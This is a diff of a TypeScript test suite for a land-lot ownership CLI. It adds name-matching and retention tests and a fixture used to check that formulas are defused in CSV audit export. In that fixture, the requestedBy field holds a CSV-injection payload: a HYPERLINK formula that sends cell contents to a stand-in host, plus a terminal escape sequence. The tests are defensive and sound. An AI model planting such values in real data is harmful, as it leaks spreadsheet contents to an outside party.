@@ -64,6 +64,15 @@ beforeAll(() => {
       recordId: 'recAAAAAAAAAAAAA3',
       owners: [owner('73', 'Prøve Eiendom AS', 22, 'organisation')],
     },
+    {
+      tomtId: '3218-23/1-d',
+      recordId: 'recAAAAAAAAAAAAA4',
+      owners: [
+        owner('74', 'Arne Skisseberg', 23),
+        owner('75', 'Åse Berg', 23),
+        owner('76', 'Bergljot Lie', 23),
+      ],
+    },
   ];
   lots.forEach((lot, i) => {
     const ownerships = lotOwnerships([
@@ -81,7 +90,11 @@ beforeAll(() => {
       tomtId: lot.tomtId,
       recordId: lot.recordId,
       parcels: `3218-${20 + i}/1`,
-      requestedBy: 'Selger <selger@example.no>',
+      // A requester name as it came, formula and escape sequence included (the 4th lot).
+      requestedBy:
+        i === 3
+          ? '=HYPERLINK("http://x.example/?d="&A1,"Se her")\u001b[2J; @SUM(1)'
+          : 'Selger <selger@example.no>',
       purpose: 'Tomteanskaffelse',
       outcome: 'done',
       ownerCount: lot.owners.length,
@@ -152,10 +165,38 @@ describe('tomtejakt owners', () => {
     expect(lines[1]).toContain('"3218-21/1-b","3218-21/1","Selger <selger@example.no>"');
   });
 
-  it('explains why retention cannot run without Airtable, and has --help', async () => {
+  it('matches whole names only, ignoring case and accents', async () => {
+    const names = async (query: string) =>
+      (
+        JSON.parse((await run('owners', 'export', '--name', query)).out) as {
+          subjects: Array<{ name: string }>;
+        }
+      ).subjects
+        .map((s) => s.name)
+        .sort();
+    expect(await names('Berg')).toEqual(['Åse Berg']);
+    expect(await names('ase BERG')).toEqual(['Åse Berg']);
+    expect(await names('provestad kari')).toEqual(['Kari Prøvestad']);
+    expect(await names('Skisse')).toEqual([]);
+  });
+
+  it('defuses formulas and strips control characters in the audit CSV', async () => {
+    const { code, out } = await run('owners', 'audit', '--lot', '3218-23/1-d', '--format', 'csv');
+    expect(code).toBe(0);
+    const row = out.trim().split('\n')[1]!;
+    expect(row).toContain(`"'=HYPERLINK(""http://x.example/?d=""&A1,""Se her"")[2J; @SUM(1)"`);
+    expect(row).not.toContain('\u001b');
+    expect(row.split('","').some((field) => /^"?[=+\-@]/.test(field))).toBe(false);
+  });
+
+  it('runs retention without Airtable (vanished lots only), and has --help', async () => {
     const { code, out } = await run('owners', 'retention', '--dry-run');
     expect(code).toBe(0);
-    expect(JSON.parse(out).skipped).toMatch(/Airtable is not configured/);
+    expect(JSON.parse(out)).toMatchObject({
+      markedNow: null,
+      erased: [],
+      note: expect.stringMatching(/Airtable is not configured/),
+    });
     const help = await run('owners', 'export', '--help');
     expect(help.code).toBe(0);
     expect(help.out).toContain('--name <name>');
